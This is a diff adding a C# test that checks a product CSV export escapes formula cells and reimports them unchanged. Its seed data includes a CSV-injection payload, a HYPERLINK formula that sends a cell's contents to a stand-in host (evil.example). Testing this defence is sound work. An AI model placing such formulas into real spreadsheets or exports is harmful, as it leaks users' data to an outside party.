@@ -116,6 +116,26 @@ public abstract class DashboardCatalogTests(DatabaseProvider provider) : Dashboa
     }
 
     [Fact]
+    public async Task CsvExport_FormulaCells_AreEscapedAndReimportUnchanged()
+    {
+        const string formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")";
+        await Seed.ProductAsync("F1", formula);
+        await Seed.ProductAsync("F2", "-50% promo");
+        var owner = await OwnerAsync();
+
+        var export = await owner.GetPageAsync("/admin/products?handler=Export");
+
+        Assert.Contains("F1,\"'=HYPERLINK(", export);
+        Assert.Contains("'-50% promo", export);
+        Assert.DoesNotContain(",-50% promo", export);
+        Assert.DoesNotContain(",=HYPERLINK", export);
+        Assert.DoesNotContain(",\"=HYPERLINK", export);
+        using var reimport = await owner.PostFileAsync("/admin/products/import", "file", "c.csv", Encoding.UTF8.GetBytes(export.TrimStart('\uFEFF')));
+        Assert.Equal(HttpStatusCode.OK, reimport.StatusCode);
+        Assert.Equal([formula, "-50% promo"], await App.QueryAsync(db => db.Products.OrderBy(p => p.Code).Select(p => p.Name).ToListAsync()));
+    }
+
+    [Fact]
     public async Task CsvImport_MissingColumns_WritesNothing()
     {
         var owner = await OwnerAsync();
